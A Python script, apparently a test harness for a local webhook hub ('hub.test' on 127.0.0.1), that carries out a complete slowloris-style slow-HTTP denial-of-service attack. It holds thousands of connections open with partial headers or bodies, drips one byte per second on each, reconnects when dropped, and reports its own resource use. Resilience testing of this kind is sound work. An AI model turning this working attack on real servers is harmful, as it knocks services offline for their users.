#!/usr/bin/env python3
"""A cheap attacker: thousands of connections, each a byte a second, for ever.

Usage: drip.py PORT CONNECTIONS heads|bodies [--burst]. Prints "attacking" once every connection is
open, and, when its standard input ends, what it did as JSON, with what it took of the machine: as
little as it can. A connection that the hub closes is opened anew. With --burst all connections
write in the same moment, once a second."""

import errno
import json
import resource
import select
import socket
import sys
import time

TICKS_PER_SECOND = 250
OPENED_PER_TICK = 10  # 2,500 connections a second
HEAD = b"POST /api/webhooks/atlvs HTTP/1.1\r\nHost: hub.test\r\n"
BEGIN = {"heads": HEAD + b"X-Drip: ", "bodies": HEAD + b"Content-Length: 8192\r\n\r\n"}


class Drip:
    def __init__(self, port, connections, begin, is_burst):
        self.address = ("127.0.0.1", port)
        self.begin = begin
        self.slots = [None] * connections
        self.places = {}  # descriptor -> slot
        self.missing = list(range(connections))
        self.groups = 1 if is_burst else TICKS_PER_SECOND
        self.poller = select.epoll()
        self.opened = self.dripped = self.behind = 0

    def open_some(self):
        for _ in range(min(OPENED_PER_TICK, len(self.missing))):
            connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            if connection.connect_ex(self.address) not in (0, errno.EINPROGRESS):
                connection.close()
                return
            slot = self.missing.pop()
            self.slots[slot] = connection
            self.places[connection.fileno()] = slot
            # Only the end is of interest: an answer that comes wakes nobody here.
            self.poller.register(connection, select.EPOLLRDHUP | select.EPOLLET)
            self.opened += 1
            self.send(slot, self.begin)

    def send(self, slot, data):
        try:
            self.slots[slot].send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.close(slot)

    def close(self, slot):
        connection = self.slots[slot]
        if connection is None:
            return
        del self.places[connection.fileno()]
        self.poller.unregister(connection)
        connection.close()
        self.slots[slot] = None
        self.missing.append(slot)

    def drip(self, tick):
        """A byte on each connection whose turn it is."""
        turn = tick % TICKS_PER_SECOND
        if turn >= self.groups:
            return
        for slot in range(turn, len(self.slots), self.groups):
            if self.slots[slot] is not None:
                self.send(slot, b"a")
                self.dripped += 1

    def run(self):
        self.poller.register(sys.stdin, select.EPOLLIN | select.EPOLLHUP)
        began, tick, is_complete = time.monotonic(), 0, False
        while True:
            tick += 1
            due = began + tick / TICKS_PER_SECOND
            self.behind += due < time.monotonic()
            while (left := due - time.monotonic()) > 0:
                for descriptor, _ in self.poller.poll(left):
                    if descriptor == sys.stdin.fileno():
                        return time.monotonic() - began
                    if descriptor in self.places:
                        self.close(self.places[descriptor])
            self.open_some()
            self.drip(tick)
            if not self.missing and not is_complete:
                is_complete = True
                print("attacking", flush=True)


def main():
    port, connections, what = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    attack = Drip(port, connections, BEGIN[what], "--burst" in sys.argv)
    seconds = attack.run()
    used = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({"connections": len(attack.places), "opened": attack.opened,
                      "bytes_per_second": round(attack.dripped / seconds),
                      "late_ticks": attack.behind / (seconds * TICKS_PER_SECOND),
                      "cores": (used.ru_utime + used.ru_stime) / seconds}))


main()
